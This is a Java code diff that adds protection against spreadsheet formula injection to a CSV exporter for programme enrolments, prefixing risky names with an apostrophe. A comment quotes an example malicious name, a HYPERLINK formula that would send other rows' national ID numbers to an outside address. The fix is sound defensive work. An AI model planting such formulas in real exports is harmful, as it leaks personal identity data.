@@ -12,7 +12,8 @@ import org.apache.commons.csv.CSVPrinter;
 
 /**
  * Writes a cohort's enrolments as CSV (RFC 4180, header row). The NIK column exists only in an
- * admin's export: a coordinator's file, forwarded or left on a shared drive, carries no NIK.
+ * admin's export: a coordinator's file, forwarded or left on a shared drive, carries no NIK. Names
+ * are written so that no spreadsheet reads them as formulas ({@link #asText}).
  */
 final class CohortCsv {
 
@@ -20,6 +21,9 @@ final class CohortCsv {
     record Row(long enrollmentId, long beneficiaryId, String fullName, String nik, String status, LocalDate enrolledOn,
                BigDecimal attendanceRate, boolean certified, LocalDate graduatedOn, LocalDate withdrawnOn) {
     }
+
+    /** The first characters that make a spreadsheet read a cell as a formula. */
+    private static final String FORMULA_STARTS = "=+-@\t\r";
 
     private static final List<String> BEFORE_NIK = List.of("enrollmentId", "beneficiaryId", "fullName");
     private static final List<String> AFTER_NIK = List.of("status", "enrolledOn", "attendanceRate", "certified",
@@ -43,7 +47,8 @@ final class CohortCsv {
         CSVFormat format = CSVFormat.RFC4180.builder().setHeader(columns(withNik).toArray(String[]::new)).get();
         try (CSVPrinter printer = new CSVPrinter(out, format)) {
             for (Row row : rows) {
-                List<Object> values = new ArrayList<>(List.of(row.enrollmentId(), row.beneficiaryId(), row.fullName()));
+                List<Object> values = new ArrayList<>(List.of(row.enrollmentId(), row.beneficiaryId(),
+                        asText(row.fullName())));
                 if (withNik) {
                     values.add(row.nik() == null ? "" : row.nik());
                 }
@@ -59,5 +64,15 @@ final class CohortCsv {
             throw new UncheckedIOException(e);
         }
         return out.toString();
+    }
+
+    /**
+     * Typed text stays text in a spreadsheet: a value that begins like a formula (OWASP's CSV
+     * injection list) gets a leading apostrophe, which Excel and LibreOffice hide. Otherwise a name
+     * typed as {@code =HYPERLINK("http://…?"&D2)} would run in the admin's spreadsheet and could send
+     * other rows' NIKs away.
+     */
+    static String asText(String value) {
+        return value != null && !value.isEmpty() && FORMULA_STARTS.indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
     }
 }
